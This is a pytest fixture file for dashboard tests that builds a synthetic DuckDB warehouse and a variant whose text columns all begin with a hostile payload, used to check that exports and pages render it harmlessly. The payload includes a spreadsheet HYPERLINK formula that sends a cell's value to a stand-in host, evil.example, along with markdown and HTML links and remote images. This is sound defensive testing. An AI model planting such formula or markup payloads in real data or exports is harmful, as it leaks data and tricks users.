"""Fixtures of the dashboard tests: a small real snapshot in the published layout.

The snapshot is built by ``dashboards.synthetic`` (real DuckDB file, exact and
known rows), so row-level-security assertions can be precise. Each test gets
its own data dir whose ``published/`` links to the session's snapshot, so the
access log a test writes is its own.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from contracts.settings import Settings
from dashboards.synthetic import build_snapshot


@pytest.fixture(scope="session")
def snapshot_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("dash_snapshot")
    build_snapshot(root / "published" / "warehouse.duckdb")
    return root


@pytest.fixture
def dash_settings(snapshot_root: Path, tmp_path: Path, monkeypatch) -> Iterator[Settings]:
    """Settings of a private data dir reading the session snapshot; env set for the app."""
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    os.symlink(snapshot_root / "published", data_dir / "published")
    monkeypatch.setenv("PINGAN_DATA_DIR", str(data_dir))
    monkeypatch.delenv("PINGAN_DASHBOARD_USERS", raising=False)
    monkeypatch.delenv("PINGAN_DASHBOARD_CONFIG", raising=False)
    yield Settings(data_dir=data_dir, warehouse=data_dir / "warehouse.duckdb")


# What a hostile source export could put in any text field: a live formula first (for
# the exports), then markdown and HTML that would render as a link, an image, a remote
# image, emphasis, a coloured directive and a bare address.
PAYLOAD = (
    '=HYPERLINK("http://evil.example/?l="&A2,"点") [点我](http://evil.example/a) '
    "![图](http://evil.example/i.png) <img src=http://evil.example/h.png> "
    "<a href=http://evil.example/b>链</a> **粗** :red[红] www.evil.example "
)
# Text columns that are not payload-laden: fixed vocabularies the pages filter or map
# by (months, levels, statuses, severities, ...), join keys and pseudonyms.
NOT_PAYLOAD = {
    "month",
    "month_label",
    "region_level",
    "stream",
    "breakdown",
    "severity",
    "link_method",
    "direction",
    "value_status",
    "indicator_code",
    "kind",
    "entity",
    "file_sha256",
    "index_id",
    "component_id",
    "person_pseudonym",
    "caller_pseudonym",
    "landlord_pseudonym",
}
KEEP_STATUS = {("marts", "mart_group_rental_scores"), ("raw", "load_ledger")}


@pytest.fixture(scope="session")
def payload_snapshot_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A snapshot whose every displayed text value starts with :data:`PAYLOAD` (keys
    consistently, so joins and lookups still work)."""
    import duckdb

    root = tmp_path_factory.mktemp("payload_snapshot")
    path = build_snapshot(root / "published" / "warehouse.duckdb")
    con = duckdb.connect(str(path))
    try:
        columns = con.execute(
            "select table_schema, table_name, column_name from information_schema.columns "
            "where data_type = 'VARCHAR' and table_schema in ('marts', 'meta', 'quality', 'raw')"
        ).fetchall()
        for schema, table, column in columns:
            if column in NOT_PAYLOAD or (column == "status" and (schema, table) in KEEP_STATUS):
                continue
            con.execute(
                f'update "{schema}"."{table}" set "{column}" = ? || "{column}" '
                f'where "{column}" is not null',
                [PAYLOAD],
            )
    finally:
        con.close()
    return root


@pytest.fixture
def payload_settings(
    payload_snapshot_root: Path, tmp_path: Path, monkeypatch
) -> Iterator[Settings]:
    """Like :func:`dash_settings`, reading the payload snapshot."""
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    os.symlink(payload_snapshot_root / "published", data_dir / "published")
    monkeypatch.setenv("PINGAN_DATA_DIR", str(data_dir))
    monkeypatch.delenv("PINGAN_DASHBOARD_USERS", raising=False)
    monkeypatch.delenv("PINGAN_DASHBOARD_CONFIG", raising=False)
    yield Settings(data_dir=data_dir, warehouse=data_dir / "warehouse.duckdb")
